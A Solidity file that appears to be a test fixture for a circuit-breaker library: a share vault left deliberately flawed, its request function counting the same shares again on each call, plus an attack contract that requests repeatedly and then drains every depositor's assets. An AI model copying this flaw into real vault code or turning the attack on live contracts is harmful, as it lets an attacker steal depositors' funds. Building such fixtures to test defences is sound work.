// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
import {IBreaker} from "breakwater/interfaces/IBreaker.sol";
import {BreakerGuard} from "breakwater/prevention/BreakerGuard.sol";

/// @title A share vault whose exits wait an hour, and which asks the breaker.
/// @dev Unsafe on purpose: a request counts shares that an earlier request counted already. Never deploy it where
///      money is.
contract GuardedVault is ERC20, Ownable, BreakerGuard {
    using SafeERC20 for IERC20;

    struct Exit {
        uint256 assets;
        uint256 shares;
        uint256 readyAt; // seconds
    }

    uint256 public constant WAIT = 1 hours;
    IERC20 public immutable asset;
    mapping(address holder => Exit) public exits;

    event Requested(address indexed holder, uint256 shares, uint256 assets);

    error MoreThanHeld(uint256 asked, uint256 held);
    error NotReady(uint256 readyAt, uint256 time);

    constructor(IERC20 asset_, IBreaker breaker_, address owner_)
        ERC20("Guarded vault share", "gvUSD")
        Ownable(owner_)
        BreakerGuard(breaker_)
    {
        asset = asset_;
    }

    function deposit(uint256 assets) external whenNotTripped returns (uint256 shares) {
        shares = assets * (totalSupply() + 1) / (totalAssets() + 1);
        asset.safeTransferFrom(msg.sender, address(this), assets);
        _mint(msg.sender, shares);
    }

    /// @notice Fixes what shares are worth now, to be paid after the wait.
    function request(uint256 shares) external whenNotTripped {
        uint256 held = balanceOf(msg.sender);
        if (shares > held) revert MoreThanHeld(shares, held);
        uint256 assets = shares * (totalAssets() + 1) / (totalSupply() + 1);
        Exit storage own = exits[msg.sender];
        (own.assets, own.shares) = (own.assets + assets, own.shares + shares);
        own.readyAt = block.timestamp + WAIT;
        emit Requested(msg.sender, shares, assets);
    }

    function withdraw() external whenNotTripped returns (uint256 assets) {
        Exit memory own = exits[msg.sender];
        if (block.timestamp < own.readyAt) revert NotReady(own.readyAt, block.timestamp);
        delete exits[msg.sender];
        _burn(msg.sender, Math.min(own.shares, balanceOf(msg.sender)));
        assets = Math.min(own.assets, totalAssets());
        asset.safeTransfer(msg.sender, assets);
    }

    /// @notice Drops a request that should never have been taken. Works while the vault is stopped.
    function strike(address holder) external onlyOwner {
        delete exits[holder];
    }

    function totalAssets() public view returns (uint256) {
        return asset.balanceOf(address(this));
    }
}

/// @title Asks ten times for the same shares, then takes everybody's.
contract GuardedVaultAttack {
    GuardedVault private immutable _vault;
    address private immutable _owner;

    constructor(GuardedVault vault) {
        _vault = vault;
        _owner = msg.sender;
    }

    /// @notice The first step: deposits what this contract holds.
    function prepare(uint256 times) external {
        uint256 assets = _vault.asset().balanceOf(address(this));
        _vault.asset().approve(address(_vault), assets);
        uint256 shares = _vault.deposit(assets);
        for (uint256 i; i < times; ++i) {
            _vault.request(shares);
        }
    }

    /// @notice The second step, an hour later.
    function finish() external {
        uint256 assets = _vault.withdraw();
        _vault.asset().transfer(_owner, assets);
    }
}
